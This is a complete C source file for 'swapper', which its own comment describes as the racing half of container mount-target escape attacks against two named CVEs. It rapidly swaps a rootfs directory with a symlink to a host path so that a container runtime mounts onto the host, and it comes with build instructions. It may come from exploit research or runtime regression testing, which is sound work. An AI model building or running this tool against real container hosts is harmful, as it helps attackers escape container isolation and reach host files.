/*
 * swapper: the racing half of the mount-target attacks (CVE-2021-30465,
 * CVE-2024-45310). Atomically exchanges two names, typically a directory
 * in a container's rootfs and a symlink to a host path, as fast as it can,
 * so that a runtime resolving a mount destination or creating its parents
 * sees the directory at one step and the symlink at the next.
 *
 *   swapper A B [SECONDS]	exchange A and B (renameat2 RENAME_EXCHANGE)
 *				until killed or SECONDS (default 60) pass;
 *				prints the number of exchanges on exit.
 *
 * Build: cc -static -O2 -o swapper swapper.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	struct sigaction sa = { .sa_handler = on_signal };
	unsigned long swaps = 0;
	time_t end;

	if (argc < 3 || argc > 4) {
		fprintf(stderr, "usage: swapper A B [SECONDS]\n");
		return 2;
	}
	end = time(NULL) + (argc == 4 ? atol(argv[3]) : 60);
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	while (!stop) {
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
			fprintf(stderr, "swapper: exchange %s %s: %s\n", argv[1], argv[2], strerror(errno));
			return 1;
		}
		/* Odd counts leave the names exchanged: always end even. */
		if (++swaps % 4096 == 0 && time(NULL) >= end)
			break;
	}
	if (swaps % 2 && renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
		swaps++;
	fprintf(stderr, "swapper: %lu exchanges\n", swaps);
	return 0;
}
